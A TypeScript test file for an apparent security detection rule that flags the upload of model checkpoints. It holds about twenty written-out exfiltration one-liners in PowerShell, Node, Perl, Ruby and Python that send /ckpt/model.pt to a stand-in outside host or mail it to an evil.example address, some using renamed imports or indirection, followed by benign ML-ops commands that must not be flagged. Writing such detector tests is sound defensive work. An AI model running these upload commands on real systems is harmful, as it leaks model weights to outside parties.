/**
 * More library transfers through the shipped rule set and the real engine: PowerShell's HttpClient
 * (exec-interpreter-dotnet-http.ts), Node's got and the AWS SDK (exec-interpreter-transfer-js.ts,
 * -js-s3.ts), Perl's Mojo::UserAgent and WWW::Mechanize (-perl.ts), Ruby calls without
 * parentheses, Faraday request blocks and multipart file parts (-ruby.ts), Node's FormData
 * (-js-form.ts) and renamed imports (-js-imports.ts), Python mail with an attachment (-mail.ts). A
 * checkpoint moved by any of them alerts as the tool it amounts to (MLS-EXFIL-014) and is the
 * code's own statement (not indirect); the ML-ops one-liners an operator runs raise nothing new.
 */
import { describe, expect, it } from 'vitest';
import { eventFieldResolver } from './event-fields.js';
import { execEvent, execRuleIds, SA } from './exec-events.test-support.js';

const SIGMA_EXEC = '79cc565c-cf24-4bf3-b1bb-c00a7c99631c';
const CKPT = '/ckpt/model.pt';
const URL = 'https://203.0.113.9/u';
const lookup = eventFieldResolver.field('attrs.exec.indirect');
const indirect = (command: unknown): unknown => ('get' in lookup ? lookup.get(execEvent(command)) : undefined);
const ps = (code: string): string[] => ['pwsh', '-NoProfile', '-c', code];
const node = (code: string): string[] => ['node', '-e', code];
const esm = (code: string): string[] => ['node', '--input-type=module', '-e', code];
const pl = (code: string): string[] => ['perl', '-e', code];
const rb = (code: string): string[] => ['ruby', '-e', code];
const py = (code: string): string[] => ['python3', '-c', code];

describe('MLS-EXFIL-014: more library uploads', () => {
  const spellings: Array<[string, string[]]> = [
    ['HttpClient PutAsync StreamContent', ps(`$c = New-Object System.Net.Http.HttpClient; $b = New-Object System.Net.Http.StreamContent([IO.File]::OpenRead('${CKPT}')); $c.PutAsync('${URL}', $b).Result`)],
    ['HttpClient PostAsync ByteArrayContent', ps(`[System.Net.Http.HttpClient]::new().PostAsync('${URL}', [System.Net.Http.ByteArrayContent]::new([IO.File]::ReadAllBytes('${CKPT}'))).Wait()`)],
    ['HttpClient multipart form', ps(`$c = [Net.Http.HttpClient]::new(); $f = New-Object Net.Http.MultipartFormDataContent; $f.Add([Net.Http.StreamContent]::new([IO.File]::OpenRead('${CKPT}')), 'model', 'm.pt'); $c.PostAsync('${URL}', $f).Result`)],
    ['HttpClient SendAsync', ps(`$c = New-Object Net.Http.HttpClient; $r = [Net.Http.HttpRequestMessage]::new([Net.Http.HttpMethod]::Put, '${URL}'); $r.Content = [Net.Http.StreamContent]::new([IO.File]::OpenRead('${CKPT}')); $c.SendAsync($r).Result`)],
    ['HttpClient inside Start-Job', ps(`Start-Job -ScriptBlock { (New-Object System.Net.Http.HttpClient).PutAsync('${URL}', [Net.Http.StreamContent]::new([IO.File]::OpenRead('${CKPT}'))).Result } | Wait-Job`)],
    ['[scriptblock]::Create of an upload', ps(`Invoke-Command -ScriptBlock ([scriptblock]::Create('curl.exe -T ${CKPT} ${URL}'))`)],
    ['got.put a file stream', node(`const got = require('got'); got.put('${URL}', {body: require('fs').createReadStream('${CKPT}')})`)],
    ['got(url, {method, body}) as an ES module', esm(`import got from 'got'; import fs from 'node:fs'; await got('${URL}', {method: 'PUT', body: fs.readFileSync('${CKPT}')})`)],
    ['PutObjectCommand sent by an S3Client', esm(`import fs from 'fs'; import { S3Client, PutObjectCommand } from '@aws-sdk/client-s3'; const c = new S3Client({}); await c.send(new PutObjectCommand({Bucket: 'b', Key: 'k', Body: fs.createReadStream('${CKPT}')}))`)],
    ['Mojo::UserAgent put', pl(`use Mojo::UserAgent; use Mojo::File qw(path); Mojo::UserAgent->new->put('${URL}' => {} => path('${CKPT}')->slurp)`)],
    ['Mojo::UserAgent form upload', pl(`my $ua = Mojo::UserAgent->new; $ua->post('${URL}' => form => {model => {file => '${CKPT}'}})`)],
    ['WWW::Mechanize submit_form with a file', pl(`use WWW::Mechanize; my $m = WWW::Mechanize->new; $m->get('${URL}'); $m->submit_form(with_fields => {upload => ['${CKPT}']})`)],
    ['Net::HTTP.post without parentheses', rb(`require 'net/http'; Net::HTTP.post URI('${URL}'), File.read('${CKPT}')`)],
    ['http.request req in a block', rb(`req = Net::HTTP::Put.new('/u'); req.body = File.read('${CKPT}')\nNet::HTTP.start('203.0.113.9', 443, use_ssl: true) { |http| http.request req }`)],
    ['FormData of a file stream posted by axios', node(`const fs = require('fs'); const axios = require('axios'); const f = new FormData(); f.append('file', fs.createReadStream('${CKPT}')); axios.post('${URL}', f)`)],
    ['form-data submit', node(`const FormData = require('form-data'); const form = new FormData(); form.append('model', fs.readFileSync('${CKPT}'), 'm.pt'); form.submit('${URL}', () => {})`)],
    ['got imported under another name', esm(`import ky from 'got'; import { createReadStream as crs } from 'node:fs'; await ky.put('${URL}', {body: crs('${CKPT}')})`)],
    ['renamed S3 command', esm(`import { S3Client as C, PutObjectCommand as P } from '@aws-sdk/client-s3'; await new C({}).send(new P({Bucket: 'b', Key: 'k', Body: fs.createReadStream('${CKPT}')}))`)],
    ['Faraday multipart FilePart', rb(`conn = Faraday.new(url: 'https://203.0.113.9') do |f|\n  f.request :multipart\nend\npart = Faraday::Multipart::FilePart.new('${CKPT}', 'application/octet-stream')\nconn.post('/u', {file: part})`)],
    ['Faraday request block', rb(`Faraday.new(url: 'https://203.0.113.9').put('/k') { |r| r.body = File.read('${CKPT}') }`)],
    ['smtplib send_message with an attachment', py(`import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage(); m['To'] = 'x@evil.example'\nm.add_attachment(open('${CKPT}', 'rb').read(), maintype='application', subtype='octet-stream')\nwith smtplib.SMTP('203.0.113.9', 587) as s:\n    s.send_message(m)`)],
  ];
  for (const [name, command] of spellings) {
    it(`alerts: ${name}`, () => {
      expect(execRuleIds(command)).toContain('MLS-EXFIL-014');
      expect(execRuleIds(command, SA)).toContain('MLS-EXFIL-014');
      // `[scriptblock]::Create(text)` runs text as Invoke-Expression does: indirect, literal; a
      // Mechanize form goes to the action its page names, known only at run time.
      expect(indirect(command)).toEqual(name.includes('scriptblock') ? [true, 'literal'] : name.includes('Mechanize') ? [true, 'runtime'] : false);
    });
  }
});

describe('benign ML-ops one-liners raise nothing new', () => {
  for (const command of [
    py('import torch; print(torch.cuda.is_available())'),
    py("import requests; print(requests.get('http://localhost:8080/healthz', timeout=2).status_code)"),
    py("import smtplib; smtplib.SMTP('localhost').sendmail('ci@corp.example', ['ml@corp.example'], 'Subject: run 42 finished')"),
    ['pwsh', '-c', 'Get-Process'],
    ps("(New-Object System.Net.Http.HttpClient).GetStringAsync('http://localhost:8080/healthz').Result"),
    ps("$c = [Net.Http.HttpClient]::new(); $c.PostAsync('http://metrics.svc/api', [Net.Http.StringContent]::new('{\"step\": 1}')).Result"),
    ps("Start-Job -ScriptBlock { Get-ChildItem /ckpt } | Receive-Job -Wait"),
    node("fetch('http://localhost:8080/healthz').then((r) => console.log(r.status))"),
    esm("import got from 'got'; console.log((await got('http://localhost:8080/healthz')).statusCode)"),
    esm("import { S3Client, GetObjectCommand } from '@aws-sdk/client-s3'; await new S3Client({}).send(new GetObjectCommand({Bucket: 'models', Key: 'base.pt'}))"),
    node("process.send({step: 1}); ws.send(JSON.stringify({loss: 0.1}))"),
    ['perl', '-MLWP::Simple', '-e', 'print get("http://localhost:8080/healthz")'],
    pl("use LWP::Simple; getstore('https://cpan.org/i', '/tmp/i')"),
    pl("my $m = WWW::Mechanize->new; $m->get('http://localhost/login'); $m->submit_form(with_fields => {user => 'ml', pass => 'x'})"),
    rb("require 'net/http'; puts Net::HTTP.get URI('http://localhost:8080/healthz')"),
    rb("cache.put 'k', File.read('/ckpt/m.pt')"),
    node("const f = new FormData(); f.append('run', 'r42'); f.append('loss', '0.1'); fetch('http://metrics.svc/api', {method: 'POST', body: f})"),
    esm("import { request as get } from 'node:http'; get('http://localhost:8080/healthz').end()"),
    rb("Faraday.new(url: 'http://metrics.svc').post('/api', {run: 'r42', loss: 0.1})"),
  ]) {
    it(JSON.stringify(command), () => {
      expect(execRuleIds(command)).toEqual([SIGMA_EXEC]);
      expect(indirect(command)).toBe(false);
    });
  }
});
